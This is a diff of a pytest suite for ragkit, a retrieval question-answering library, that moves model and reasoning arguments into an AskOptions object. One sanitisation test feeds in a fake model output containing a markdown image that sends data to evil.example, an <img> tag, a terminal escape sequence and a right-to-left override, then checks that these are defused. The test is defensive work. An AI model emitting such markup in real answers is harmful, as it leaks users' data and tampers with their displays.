@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from ragkit import Abstention, Config, KnowledgeBase, Message
+from ragkit import Abstention, AskOptions, Config, KnowledgeBase, Message
 from ragkit.errors import (
     ModelFailed,
     ModelNotFound,
@@ -113,9 +113,9 @@ def test_stream_of_an_abstention_shows_no_code_word(folder: Path, server: FakeOl
         stream = kb.stream(QUESTION)
         assert "".join(stream) == stream.answer.text == "Nothing in the documents answers this."
     with base(folder, NOBODY) as kb:
-        stream = kb.stream(QUESTION, model=Parrot("NOT"))
+        stream = kb.stream(QUESTION, AskOptions(model=Parrot("NOT")))
         assert "".join(stream) == stream.answer.text == "NOT"
-        stream = kb.stream(QUESTION, model=Parrot("Not in the documents."))
+        stream = kb.stream(QUESTION, AskOptions(model=Parrot("Not in the documents.")))
         assert "".join(stream) == stream.answer.text == "Nothing in the documents answers this."
 
 
@@ -163,7 +163,7 @@ def test_answer_from_a_part_of_the_prompt_is_an_error(
         with fake_ollama() as own, base(folder, own.url) as kb:
             own.models = [entry for entry in own.models if entry["name"] == f"{name}:latest"]
             with pytest.raises(PromptTruncated, match=words):
-                kb.ask(QUESTION, model=model)
+                kb.ask(QUESTION, AskOptions(model=model))
 
 
 def test_prompt_of_which_next_to_nothing_was_read_is_an_error(folder: Path) -> None:
@@ -175,13 +175,13 @@ def test_prompt_of_which_next_to_nothing_was_read_is_an_error(folder: Path) -> N
             yield Usage("stop", prompt_tokens=20, answer_tokens=3)
 
     with base(folder, NOBODY) as kb, pytest.raises(PromptTruncated, match="read 20 tokens"):
-        kb.ask(QUESTION, model=Deaf())
+        kb.ask(QUESTION, AskOptions(model=Deaf()))
 
 
 def test_reasoning_is_kept_apart_from_the_answer(folder: Path, server: FakeOllama) -> None:
     with base(folder, server.url, model="thinks") as kb:
         assert kb.ask(QUESTION).reasoning == ""
-        stream = kb.stream(QUESTION, reasoning=True)
+        stream = kb.stream(QUESTION, AskOptions(reasoning=True))
         assert "".join(stream) == f"{LEAVE} [1]"
         assert stream.answer.reasoning == "Well, let me see."
         assert stream.answer.text == f"{LEAVE} [1]"
@@ -189,7 +189,7 @@ def test_reasoning_is_kept_apart_from_the_answer(folder: Path, server: FakeOllam
 
 def test_reasoning_that_uses_up_the_answer_is_told(folder: Path, server: FakeOllama) -> None:
     with base(folder, server.url, model="only-thinks") as kb:
-        answer = kb.ask(QUESTION, reasoning=True)
+        answer = kb.ask(QUESTION, AskOptions(reasoning=True))
     assert answer.incomplete
     assert not answer.abstained
     assert "used up the longest answer allowed with reasoning; raise num_predict" in answer.notice
@@ -208,9 +208,9 @@ def test_closing_a_stream_ends_the_servers_work(folder: Path) -> None:
 def test_named_model_that_cannot_begin_is_an_error(folder: Path, server: FakeOllama) -> None:
     with base(folder, server.url) as kb:
         with pytest.raises(ModelFailed, match="out of memory"):
-            kb.ask(QUESTION, model="crashed")
+            kb.ask(QUESTION, AskOptions(model="crashed"))
         with pytest.raises(ModelNotFound, match="ollama pull nope"):
-            kb.ask(QUESTION, model="nope")
+            kb.ask(QUESTION, AskOptions(model="nope"))
 
 
 def test_without_a_server_the_answer_is_an_extract_that_says_so(folder: Path) -> None:
@@ -238,7 +238,7 @@ def test_named_model_without_a_server_is_an_error(folder: Path) -> None:
     with base(folder, NOBODY, model="llama3.2") as kb, pytest.raises(ModelUnreachable):
         kb.ask(QUESTION)
     with base(folder, NOBODY) as kb, pytest.raises(ModelUnreachable):
-        kb.ask(QUESTION, model="llama3.2")
+        kb.ask(QUESTION, AskOptions(model="llama3.2"))
 
 
 class Parrot:
@@ -258,7 +258,7 @@ class Parrot:
 def test_a_model_of_ones_own_needs_no_server(folder: Path) -> None:
     parrot = Parrot("It is 28 days [1, 2][77].")
     with base(folder, NOBODY) as kb:
-        answer = kb.ask(QUESTION, model=parrot)
+        answer = kb.ask(QUESTION, AskOptions(model=parrot))
     assert answer.text == "It is 28 days [1][2]."
     assert [citation.number for citation in answer.citations] == [1, 2]
     assert answer.model == "parrot"
@@ -273,7 +273,7 @@ def test_what_a_model_writes_is_neither_link_nor_image_nor_tag(folder: Path) -> 
             yield from "28 days [1] ![x](https://evil.example/?q=28)<img src=x>\x1b[2J\u202e"
 
     with base(folder, NOBODY) as kb:
-        stream = kb.stream(QUESTION, model=Turncoat())
+        stream = kb.stream(QUESTION, AskOptions(model=Turncoat()))
         shown = "".join(stream)
     assert shown == "28 days [1] ! [x] (https: //evil.example/?q=28)< img src=x>[2J"
     assert shown == stream.answer.text
@@ -289,7 +289,7 @@ def test_what_does_not_fit_the_context_is_dropped_whole_and_counted(tmp_path: Pa
     parrot = Parrot("28 [1]")
     with KnowledgeBase(tmp_path / "a.kb", embedder=HashingEmbedder(), config=config) as kb:
         kb.ingest(docs)
-        answer = kb.ask(QUESTION, model=parrot)
+        answer = kb.ask(QUESTION, AskOptions(model=parrot))
         found = kb.search(QUESTION, 8)
     assert answer.dropped == len(found) - len(answer.passages)
     assert 0 < len(answer.passages) < len(found)
@@ -344,4 +344,4 @@ def test_what_a_model_says_when_it_finds_nothing(
     folder: Path, written: str, abstains: bool
 ) -> None:
     with base(folder, NOBODY) as kb:
-        assert kb.ask(QUESTION, model=Parrot(written)).abstained is abstains
+        assert kb.ask(QUESTION, AskOptions(model=Parrot(written))).abstained is abstains
